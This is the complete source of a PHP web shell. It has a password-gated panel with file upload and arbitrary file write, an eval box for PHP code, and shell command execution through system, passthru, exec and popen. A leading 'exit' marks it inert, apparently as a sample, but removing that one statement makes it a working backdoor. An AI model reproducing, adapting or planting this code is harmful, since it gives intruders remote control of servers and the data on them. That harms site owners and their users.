<?php exit; /* inert */ error_reporting(7);
@set_magic_quotes_runtime(0);
$admin = array('check' => 1, 'pass' => '21232f297a57a5a743894a0e4a801fc3');
foreach (array('_GET', '_POST') as $_request) {
    foreach ($$_request as $_key => $_value) {
        if ($_key[0] != '_') { $$_key = s_array($_value); }
    }
}
function s_array($a) { return is_array($a) ? array_map('s_array', $a) : stripslashes($a); }
function p($s) { echo $s . "\n"; }
function loginpage() {
    p('<form method="POST"><input name="password" type="password"><input type="hidden" name="doing" value="login"></form>');
    exit;
}
if ($doing == 'login' && $admin['pass'] == md5($password)) { setcookie('loginpass', md5($password)); }
if ($admin['check'] && $_COOKIE['loginpass'] != $admin['pass']) { loginpage(); }
!$action && $action = 'file';
p('<a href="?action=file">File Manager</a> | <a href="?action=shell">Execute Command</a> | <a href="?action=eval">Eval PHP Code</a>');
if ($action == 'phpinfo') { phpinfo(); exit; }
elseif ($action == 'file') {
    if ($doupfile) {
        p(@copy($_FILES['uploadfile']['tmp_name'], $uploaddir . '/' . $_FILES['uploadfile']['name']) ? 'ok' : 'fail');
    } elseif ($editfilename) {
        $fp = @fopen($editfilename, 'w');
        p(@fwrite($fp, $filecontent) ? 'Save success' : 'Save failed');
        @fclose($fp);
    }
} elseif ($action == 'eval') {
    $phpcode = trim($phpcode);
    if ($phpcode) { eval("?" . ">$phpcode<?"); }
    p('<form method="POST"><textarea name="phpcode"></textarea></form>');
} elseif ($action == 'shell') {
    if ($command) {
        if ($execfunc == 'system') { system($command); }
        elseif ($execfunc == 'passthru') { passthru($command); }
        elseif ($execfunc == 'exec') { exec($command, $r); p(join("\n", $r)); }
        elseif ($execfunc == 'popen') { $h = popen($command, 'r'); p(fread($h, 1024)); pclose($h); }
    }
}
